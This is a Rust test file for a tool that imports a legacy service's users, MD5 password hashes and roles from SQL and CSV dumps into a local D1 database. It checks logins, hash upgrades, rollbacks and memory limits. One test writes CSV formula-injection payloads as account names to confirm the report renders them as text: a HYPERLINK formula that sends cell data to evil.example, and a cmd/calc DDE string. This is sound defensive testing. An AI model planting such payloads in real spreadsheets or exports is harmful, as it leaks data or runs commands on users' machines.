//! `make import`: the original service's users, from dumps in both styles and CSV, into
//! the real worker's local D1, and logging in as they did there.

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use login_worker::domain::password::LegacyMd5;
use serde_json::{json, Value};

use crate::client::Client;
use crate::support::{log_in, registration, send_code, unique_phone};
use crate::worker::{fresh_state_dir, migrated_state_dir, TestWorker};

pub const OWN_TESTS: &[crate::OwnTest] = tests![
    the_original_services_users_move_in_and_log_in_as_before,
    a_roles_batch_stopped_by_a_guard_is_undone_whole,
    an_import_report_holds_formulas_as_text_and_names_that_are_no_utf8_as_skipped,
    an_import_of_a_csv_naming_a_column_twice_imports_nothing,
    an_import_reads_a_dump_on_one_long_line_in_bounded_memory
];

const PEPPER: &str = "an-import-test-pepper-of-at-least-32-bytes";

/// A user of the generated dump.
struct Original {
    id: u64,
    account: String,
    password: String,
    status: &'static str,
    role_id: &'static str,
}

impl Original {
    fn phone(&self) -> String {
        format!("139{:08}", self.id)
    }

    fn md5(&self) -> String {
        LegacyMd5::of(&self.password).as_str().to_string()
    }
}

/// 310 users: 1 to 150 in Navicat's style, 151 to 300 in mysqldump's, 301 to 310 in CSV.
/// User 1 has roles 1 and 3, user 2 is banned, user 3's password has 4 characters, user
/// 4 holds a role the dump lacks; the later styles' names have quotes, backslashes,
/// Chinese, emoji and SQL.
fn originals() -> Vec<Original> {
    (1..=310)
        .map(|id| {
            let account = match id {
                151..=200 => format!("o'neil\\{id}"),
                201..=250 => format!("张三_{id}"),
                251..=260 => format!("🐼{id}"),
                // What wrangler would cut out of an SQL file's text, were it written as text.
                305 => "BEGIN TRANSACTION; COMMIT;".to_string(),
                _ => format!("legacy_{id}"),
            };
            Original {
                id,
                account,
                password: if id == 3 { "abcd".into() } else { format!("pw_{id}") },
                status: if id == 2 { "ban" } else { "active" },
                role_id: match id {
                    1 => "1,3",
                    4 => "9",
                    _ => "2",
                },
            }
        })
        .collect()
}

/// A text as MySQL writes it in a dump.
fn mysql_text(text: &str) -> String {
    format!("'{}'", text.replace('\\', "\\\\").replace('\'', "\\'"))
}

fn row(user: &Original) -> String {
    format!(
        "({}, {}, '{}', '{}', 0, 'others', '{}', NULL, NULL, '{}', '2023-12-04 01:40:33', '2023-12-04 01:40:33')",
        user.id,
        mysql_text(&user.account),
        user.md5(),
        user.phone(),
        user.status,
        user.role_id
    )
}

const USERS_TABLE: &str = "CREATE TABLE `users`  (
  `id` int UNSIGNED NOT NULL AUTO_INCREMENT COMMENT '主键',
  `account` varchar(64) CHARACTER SET utf8mb4 COLLATE utf8mb4_general_ci NOT NULL DEFAULT '' COMMENT '账号',
  `password` varchar(128) CHARACTER SET utf8mb4 COLLATE utf8mb4_general_ci NOT NULL DEFAULT '' COMMENT '密码',
  `phone` varchar(16) CHARACTER SET utf8mb4 COLLATE utf8mb4_general_ci NOT NULL DEFAULT '' COMMENT '手机号',
  `age` int UNSIGNED NOT NULL DEFAULT 0 COMMENT '年龄',
  `sex` enum('man','woman','others') CHARACTER SET utf8mb4 COLLATE utf8mb4_general_ci NOT NULL DEFAULT 'others' COMMENT '性别',
  `status` enum('ban','active') CHARACTER SET utf8mb4 COLLATE utf8mb4_general_ci NULL DEFAULT 'active' COMMENT '用户状态',
  `refresh_jwt_token` text CHARACTER SET utf8mb4 COLLATE utf8mb4_general_ci NULL COMMENT '刷新JwtToken',
  `jwt_token` text CHARACTER SET utf8mb4 COLLATE utf8mb4_general_ci NULL COMMENT 'Jwt',
  `role_id` varchar(128) CHARACTER SET utf8mb4 COLLATE utf8mb4_general_ci NOT NULL DEFAULT '' COMMENT '角色ID(外键)',
  `create_time` datetime(0) NULL DEFAULT NULL COMMENT '创建时间',
  `update_time` datetime(0) NULL DEFAULT NULL COMMENT '修改时间',
  PRIMARY KEY (`id`) USING BTREE,
  UNIQUE INDEX `phone_idx`(`phone`) USING BTREE,
  INDEX `account_idx`(`account`) USING BTREE
) ENGINE = InnoDB AUTO_INCREMENT = 3 CHARACTER SET = utf8mb4 COLLATE = utf8mb4_general_ci COMMENT = '用户表' ROW_FORMAT = Dynamic;";

/// The dump files, in `dir`: roles and users 1-150 as Navicat writes them, users 151-300
/// as mysqldump does (no CREATE TABLE: the original columns), users 301-310 as CSV with
/// two rows that cannot be imported.
fn write_dumps(dir: &Path, users: &[Original]) -> Vec<PathBuf> {
    let roles = "SET NAMES utf8mb4;\nDROP TABLE IF EXISTS `roles`;\n\
        INSERT INTO `roles` VALUES (1, '超级管理员', 'yes', '1,2,3', '', 'active', '2023-12-06 09:00:56', NULL);\n\
        INSERT INTO `roles` VALUES (2, '默认角色', 'no', '', '', 'active', NULL, NULL);\n\
        INSERT INTO `roles` VALUES (3, '编辑', 'no', '', '', 'pause', NULL, NULL);\n";
    let mut navicat = format!("SET NAMES utf8mb4;\nSET FOREIGN_KEY_CHECKS = 0;\n{USERS_TABLE}\n");
    for user in &users[..150] {
        navicat += &format!("INSERT INTO `users` VALUES {};\n", row(user));
    }
    let rows: Vec<String> = users[150..300].iter().map(row).collect();
    let mysqldump = format!(
        "/*!40101 SET NAMES utf8mb4 */;\nLOCK TABLES `users` WRITE;\n/*!40000 ALTER TABLE `users` DISABLE KEYS */;\n\
         INSERT INTO `users` VALUES {};\nUNLOCK TABLES;\n",
        rows.join(",")
    );
    let mut csv = "id,account,password,phone,status,role_id,create_time\n".to_string();
    for user in &users[300..] {
        csv += &format!(
            "{},{},{},{},{},{},2023-12-04 01:40:33\n",
            user.id,
            user.account,
            user.md5(),
            user.phone(),
            user.status,
            user.role_id
        );
    }
    // The account of user 1 in other case, and a phone that is no number.
    csv += &format!("311,LEGACY_1,{},13900000311,active,2,\n", LegacyMd5::of("x").as_str());
    csv += &format!("312,legacy_312,{},12345,active,2,\n", LegacyMd5::of("x").as_str());
    let files = [
        ("roles.sql", roles.to_string()),
        ("users.sql", navicat),
        ("more-users.sql", mysqldump),
        ("users.csv", csv),
    ];
    files
        .into_iter()
        .map(|(name, text)| {
            let path = dir.join(name);
            std::fs::write(&path, text).unwrap();
            path
        })
        .collect()
}

fn importer(worker: &TestWorker, files: &[PathBuf], report: &Path) -> Command {
    importer_on(&worker.state_dir, files, report)
}

/// The importer on the local D1 in `state_dir`, as `make import` runs it.
fn importer_on(state_dir: &Path, files: &[PathBuf], report: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_login-import"));
    command
        .args(["--config", "build/wrangler.toml", "--persist-to"])
        .arg(state_dir)
        .arg("--report")
        .arg(report)
        .args(files)
        .env("PASSWORD_PEPPER", PEPPER)
        .current_dir(env!("CARGO_MANIFEST_DIR"));
    command
}

fn import(worker: &TestWorker, files: &[PathBuf], report: &Path) -> Output {
    importer(worker, files, report).output().expect("run the importer")
}

/// Registers a new user and returns its `jwt_data` (uid and rid).
fn newcomer(client: &Client, account: &str) -> Value {
    let phone = unique_phone();
    let code = send_code(client, &phone);
    client.post("/login/register", &registration(account, "newcomer_1", &phone, &code)).expect(200, 200);
    let (jwt, _) = log_in(client, account, "newcomer_1");
    status(client, &jwt)
}

fn text(output: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

/// Everything the import writes, in a fixed order.
fn database(worker: &TestWorker) -> Vec<Value> {
    let tables = [
        "SELECT * FROM users ORDER BY id",
        "SELECT * FROM roles ORDER BY id",
        "SELECT * FROM user_roles ORDER BY user_id, role_id",
    ];
    worker.queries(&tables).concat()
}

/// Every byte of the local D1's files (the database, its WAL and journal).
fn d1_bytes(dir: &Path) -> Vec<u8> {
    let mut bytes = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            bytes.extend(d1_bytes(&path));
        } else {
            bytes.extend(std::fs::read(&path).unwrap_or_default());
        }
    }
    bytes
}

fn status(client: &Client, jwt: &str) -> Value {
    let reply = client.post("/login/jwt/status", &json!({ "jwt": jwt }));
    reply.expect(200, 200);
    reply.data()["jwt_data"].clone()
}

fn the_original_services_users_move_in_and_log_in_as_before() {
    let worker = TestWorker::start_with(&fresh_state_dir(), &[("PASSWORD_PEPPER", PEPPER)]);
    let client = worker.client();
    let scratch = fresh_state_dir();
    let report = scratch.join("report.csv");
    let users = originals();
    let files = write_dumps(&scratch, &users);

    // The original repository's roles: only the super administrator. Which role new
    // users get cannot be decided, and nothing is written.
    let admin_only = scratch.join("admin-only.sql");
    std::fs::write(
        &admin_only,
        "INSERT INTO `roles` VALUES (1,'超级管理员','yes','','','active',NULL,NULL);",
    )
    .unwrap();
    let before = database(&worker);
    let stopped = import(&worker, &[admin_only, files[1].clone()], &report);
    assert!(!stopped.status.success(), "{}", text(&stopped));
    assert!(
        text(&stopped).contains("Nothing was imported") && text(&stopped).contains("DEFAULT_ROLE"),
        "{}",
        text(&stopped)
    );
    assert_eq!(database(&worker), before);

    // The import, with a registration while it hashes: the roles and the ids are settled
    // first, so the newcomer gets the original's default role and an id after theirs. Each
    // line of the importer is stamped as it comes, to show the registration was done
    // before the users were written (which is after "Hashed").
    let mut running = importer(&worker, &files, &report).stdout(Stdio::piped()).spawn().unwrap();
    let (lines_out, lines) = std::sync::mpsc::channel();
    let stdout = running.stdout.take().unwrap();
    let reader = std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines() {
            let _ = lines_out.send((Instant::now(), line.unwrap()));
        }
    });
    let mut said = String::new();
    for (_, line) in lines.iter() {
        said += &format!("{line}\n");
        if line.starts_with("Roles written") {
            break;
        }
    }
    assert!(said.contains("Roles written; new registrations get ids after 310."), "{said}");
    let early = newcomer(&client, "early_bird");
    let registered = Instant::now();
    assert_eq!(early["rid"], json!(["2"]));
    assert!(early["uid"].as_u64().unwrap() > 310, "{early}");
    for (at, line) in lines.iter() {
        if line.starts_with("Hashed") {
            assert!(registered < at, "the registration came after the hashing: it proves nothing ({line})");
        }
        said += &format!("{line}\n");
    }
    reader.join().unwrap();
    let imported = running.wait_with_output().unwrap();
    said += &String::from_utf8_lossy(&imported.stderr);
    assert!(imported.status.success(), "{said}");
    assert!(!said.contains("kept out"), "{said}");
    assert!(said.contains("Imported 310 users and 4 roles"), "{said}");
    assert!(said.contains("New registrations get role 2 (默认角色)"), "{said}");
    assert!(said.contains("users/s") && said.contains("× its floor"), "{said}");
    let listed = std::fs::read_to_string(&report).unwrap();
    let csv = files[3].display();
    let taken =
        format!(r#""skipped","users","{csv}:12","311","LEGACY_1","the account is taken by the account at "#);
    assert!(listed.contains(&taken), "{listed}");
    let no_number =
        format!(r#""skipped","users","{csv}:13","312","legacy_312","phone ""12345"" is not a valid number""#);
    assert!(listed.contains(&no_number), "{listed}");
    assert!(listed.contains("role 9 (not in the dump)"), "{listed}");
    assert!(!listed.contains(&users[0].md5()), "{listed}");

    // The md5s are nowhere in the database's files.
    let stored = d1_bytes(&worker.state_dir.join("v3/d1"));
    assert!(stored.len() > 10_000, "the local D1 is where it was looked for");
    let md5s: std::collections::HashSet<Vec<u8>> = users.iter().map(|user| user.md5().into_bytes()).collect();
    let found = stored.windows(32).find(|window| md5s.contains(*window));
    assert!(found.is_none(), "an md5 is stored: {:?}", found.map(String::from_utf8_lossy));
    let some_hash = worker.query("SELECT password_hash FROM users WHERE id = 1");
    assert!(stored
        .windows(20)
        .any(|w| w == &some_hash[0]["password_hash"].as_str().unwrap().as_bytes()[..20]));

    // Everyone logs in with the password of the original service, as the same uid and
    // rid; the banned user is refused as any wrong login is.
    let chunks: Vec<&[Original]> = users.chunks(users.len().div_ceil(4)).collect();
    std::thread::scope(|scope| {
        for chunk in chunks {
            let client = worker.client();
            scope.spawn(move || {
                for user in chunk {
                    let reply = client
                        .post("/login/jwt/get", &json!({ "account": user.account, "pwd": user.password }));
                    if user.status == "ban" {
                        reply.expect(50006, 401);
                        continue;
                    }
                    reply.expect(200, 200);
                    let data = status(&client, reply.data()["jwt"].as_str().unwrap());
                    let rid: Vec<&str> = user.role_id.split(',').collect();
                    assert_eq!(data["uid"], json!(user.id), "{}", user.account);
                    assert_eq!(data["rid"], json!(rid), "{}", user.account);
                }
            });
        }
    });
    client
        .post("/login/jwt/get", &json!({ "account": "legacy_5", "pwd": LegacyMd5::of("pw_5").as_str() }))
        .expect(50006, 401);

    // Each login replaced its md5 with a normal hash (after the answer): only the banned
    // user's is left. The second login checks the new one.
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let left = worker.query("SELECT id FROM users WHERE password_hash LIKE '$pbkdf2-sha256-md5$%'");
        if left == [json!({ "id": 2 })] {
            break;
        }
        assert!(Instant::now() < deadline, "hashes still to upgrade: {left:?}");
        std::thread::sleep(Duration::from_millis(200));
    }
    let upgraded = worker.query("SELECT password_hash FROM users WHERE id = 3");
    assert!(
        upgraded[0]["password_hash"]
            .as_str()
            .unwrap()
            .starts_with(&format!("$pbkdf2-sha256$i={},pepper=1$", crate::worker::TEST_PBKDF2_ITERATIONS)),
        "{upgraded:?}"
    );
    for user in [&users[2], &users[0], &users[200], &users[255]] {
        log_in(&client, &user.account, &user.password);
    }

    // New registrations get the original service's default role, and ids after the
    // imported ones.
    let late = newcomer(&client, "newcomer");
    assert_eq!(late["rid"], json!(["2"]));
    assert!(late["uid"].as_u64().unwrap() > early["uid"].as_u64().unwrap(), "{late}");

    // Importing again changes nothing: not the upgraded hashes, not the roles.
    let before = database(&worker);
    let again = import(&worker, &files, &report);
    assert!(again.status.success(), "{}", text(&again));
    assert!(text(&again).contains("To import: 0 users and 0 roles"), "{}", text(&again));
    assert_eq!(database(&worker), before);
}

/// The first batch of an import, planned while nobody held role 1, run after a user has
/// come to hold it: its guard stops the rename, and the whole batch (default role, new
/// roles, id reservation) is undone, in the real local D1.
fn a_roles_batch_stopped_by_a_guard_is_undone_whole() {
    use login_worker::domain::username::native::NativeUnicode;
    use login_worker::import::{dump, legacy::Legacy, plan, sql};

    let state = migrated_state_dir();
    let state = state.to_str().unwrap();
    let d1 = |args: &[&str]| {
        Command::new(std::env::var("LOGIN_NODE").unwrap())
            .arg(std::env::var("LOGIN_WRANGLER").unwrap())
            .args([
                "d1",
                "execute",
                "DB",
                "--local",
                "--persist-to",
                state,
                "--config",
                "build/wrangler.toml",
            ])
            .args(args)
            .current_dir(env!("CARGO_MANIFEST_DIR"))
            .output()
            .unwrap()
    };
    let roles = "INSERT INTO `roles` VALUES (1,'超级管理员','yes','','','active',NULL,NULL),(2,'默认角色','no','','','active',NULL,NULL);\n\
                 INSERT INTO `users` VALUES (40,'x','fcea920f7412b5da7be0cf42b8c93759','13900000040',0,'others','active',NULL,NULL,'2',NULL,NULL);";
    let mut legacy = Legacy::default();
    dump::read_sql("roles.sql", roles.as_bytes(), &mut legacy).unwrap();
    let seen = plan::Present {
        users: vec![],
        roles: vec![plan::PresentRole {
            id: 1,
            name: "user".into(),
            is_default: true,
            super_admin: false,
            origin: plan::Origin::Here,
            holders: 0,
        }],
    };
    let planned = plan::plan(legacy, &seen, None, &NativeUnicode).unwrap();
    // Meanwhile a registration: a user with the starting role.
    let holder = "INSERT INTO users (id, account, account_key, phone, password_hash, created_at) \
                  VALUES (1, 'holder', 'holder', '+8613900000001', 'x', 0); INSERT INTO user_roles VALUES (1, 1);";
    assert!(d1(&["--command", holder]).status.success());
    let file = std::path::Path::new(state).join("first.sql");
    std::fs::write(&file, sql::first_statements(&planned).join("\n")).unwrap();
    let ran = d1(&["--file", file.to_str().unwrap()]);
    assert!(!ran.status.success(), "the guard stopped the rename");
    assert!(text(&ran).contains(sql::ROLE_CHANGED_MEANWHILE), "{}", text(&ran));
    let after = d1(&[
        "--json",
        "--command",
        "SELECT id, name, is_default, super_admin, origin FROM roles; \
                                               SELECT seq FROM sqlite_sequence WHERE name = 'users'",
    ]);
    let after: Value = serde_json::from_slice(&after.stdout).unwrap();
    assert_eq!(
        after[0]["results"],
        json!([{"id": 1, "name": "user", "is_default": 1, "super_admin": 0, "origin": "here"}])
    );
    assert_eq!(after[1]["results"], json!([{"seq": 1}]), "no id reserved");

    // The importer itself, over a database whose role 1 a user holds (as after trying the
    // README's first session): it stops, and names the way out.
    let dump = std::path::Path::new(state).join("roles.sql");
    std::fs::write(&dump, roles).unwrap();
    let stopped = Command::new(env!("CARGO_BIN_EXE_login-import"))
        .args(["--config", "build/wrangler.toml", "--persist-to", state, "--report"])
        .arg(std::path::Path::new(state).join("report.csv"))
        .arg(&dump)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .unwrap();
    assert!(!stopped.status.success(), "{}", text(&stopped));
    let said = text(&stopped);
    assert!(said.contains("would change what the role means") && said.contains("FRESH=1"), "{said}");
}

/// The report of a dry run over names a spreadsheet would run as formulas, and names
/// saved in GBK: the formulas are text there, the GBK names skipped rows with their reason.
fn an_import_report_holds_formulas_as_text_and_names_that_are_no_utf8_as_skipped() {
    let state = migrated_state_dir();
    let md5 = LegacyMd5::of("x").as_str().to_string();
    let mut sql = format!(
        "INSERT INTO `roles` VALUES (2,'默认角色','no','','','active',NULL,NULL);\n\
         INSERT INTO users (id, account, password, phone, role_id) VALUES \
         (1, '=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")', '{md5}', '12345', '2'), \
         (2, '@SUM(A1) x', '{md5}', '13900000002', '2'), (3, '"
    )
    .into_bytes();
    sql.extend(b"\xd5\xc5\xc8\xfd");
    sql.extend(format!("', '{md5}', '13900000003', '2');\n").as_bytes());
    let mut csv =
        format!("id,account,password,phone,role_id\n4,+1+cmd|' /C calc'!A0,{md5},1,2\n5,").into_bytes();
    csv.extend(b"\xc0\xee\xcb\xc4");
    csv.extend(format!(",{md5},13900000005,2\n").as_bytes());
    let (dump, users_csv, report) =
        (state.join("dump.sql"), state.join("users.csv"), state.join("report.csv"));
    std::fs::write(&dump, sql).unwrap();
    std::fs::write(&users_csv, csv).unwrap();
    let ran =
        importer_on(&state, &[dump.clone(), users_csv.clone()], &report).arg("--dry-run").output().unwrap();
    assert!(ran.status.success(), "{}", text(&ran));
    assert!(text(&ran).contains("Read 1 users and 1 roles (4 rows unreadable)"), "{}", text(&ran));
    let listed = std::fs::read_to_string(&report).unwrap();
    let (dump, users_csv) = (dump.display(), users_csv.display());
    let gbk = "account is not UTF-8 text (was the file saved in another encoding, such as GBK?)";
    for line in [
        format!(
            r#""skipped","users","{dump}:2","1","'=HYPERLINK(""http://evil.example/?""&A1,""x"")","phone ""12345"" is not a valid number""#
        ),
        format!(r#""skipped","users","{dump}:2, row 3","3","����","{gbk}""#),
        format!(
            r#""skipped","users","{users_csv}:2","4","'+1+cmd|' /C calc'!A0","phone ""1"" is not a valid number""#
        ),
        format!(r#""skipped","users","{users_csv}:3","5","����","{gbk}""#),
        format!(r#""imported","users","{dump}:2, row 2","2","'@SUM(A1) x","#),
    ] {
        assert!(listed.contains(&line), "{line}\nnot in\n{listed}");
    }
    assert!(!listed.contains(&md5), "{listed}");
}

/// A CSV file whose header names `account` twice: which column holds the accounts cannot
/// be told, so the import stops before it writes anything, naming the column.
fn an_import_of_a_csv_naming_a_column_twice_imports_nothing() {
    let scratch = fresh_state_dir();
    let md5 = LegacyMd5::of("x").as_str().to_string();
    let users = scratch.join("users.csv");
    let csv = format!("id,account,password,phone,account\n1,alice,{md5},13900000001,mallory\n");
    std::fs::write(&users, csv).unwrap();
    let report = scratch.join("report.csv");
    let stopped = importer_on(&scratch, std::slice::from_ref(&users), &report).output().unwrap();
    assert!(!stopped.status.success(), "{}", text(&stopped));
    let expected = format!(
        "Nothing was imported: {}:1: the column account is named twice, and which of the two holds the account \
         cannot be told.",
        users.display()
    );
    assert!(text(&stopped).contains(&expected), "{}", text(&stopped));
    assert!(!report.exists() && !scratch.join("v3").exists(), "nothing written, no database touched");
}

/// A dump of 10 MB on one line (68,000 users in one extended INSERT, and a last INSERT
/// that stops the import once all of it is read): read within 200 MB of address space,
/// where reading the whole line at once took several times that.
fn an_import_reads_a_dump_on_one_long_line_in_bounded_memory() {
    let scratch = fresh_state_dir();
    let md5 = LegacyMd5::of("x").as_str().to_string();
    let mut line = String::from("INSERT INTO `users` VALUES ");
    for id in 1..=68_000u64 {
        let separator = if id == 1 { "" } else { "," };
        line += &format!(
            "{separator}({id},'user_{id}','{md5}','139{id:08}',0,'others','active',NULL,NULL,'2','2023-12-04 01:40:33','2023-12-04 01:40:33')"
        );
    }
    line += "; INSERT INTO users (id, account) VALUES (1, 'a');";
    assert!(line.len() > 10_000_000 && !line.contains('\n'));
    let dump = scratch.join("one-line.sql");
    std::fs::write(&dump, line).unwrap();
    let mut limited = Command::new("sh");
    limited
        .args(["-c", "ulimit -v 200000 && exec \"$0\" \"$@\"", env!("CARGO_BIN_EXE_login-import")])
        .args(["--config", "build/wrangler.toml", "--report"])
        .arg(scratch.join("report.csv"))
        .arg(&dump)
        .current_dir(env!("CARGO_MANIFEST_DIR"));
    let ran = limited.output().unwrap();
    assert_eq!(ran.status.code(), Some(1), "{}", text(&ran));
    assert_eq!(text(&ran).trim(), "Nothing was imported: the users table has no column password, phone.");
}
